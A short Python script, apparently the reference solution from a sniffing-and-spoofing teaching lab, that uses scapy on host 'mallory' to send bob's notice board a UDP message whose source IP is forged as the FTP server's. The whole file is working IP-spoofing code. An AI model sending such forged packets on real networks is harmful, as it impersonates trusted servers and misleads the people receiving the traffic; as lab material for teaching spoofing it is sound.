# The sniffing-spoofing lab's reference solution for the spoof, run on mallory: a UDP datagram to
# bob's notice board whose IP source address is the FTP server's.
import socket

from scapy.all import IP, UDP, send

ftp, bob = socket.gethostbyname("ftp"), socket.gethostbyname("bob")
send(IP(src=ftp, dst=bob) / UDP(sport=40000, dport=5140) / b"server maintenance tonight", verbose=False)
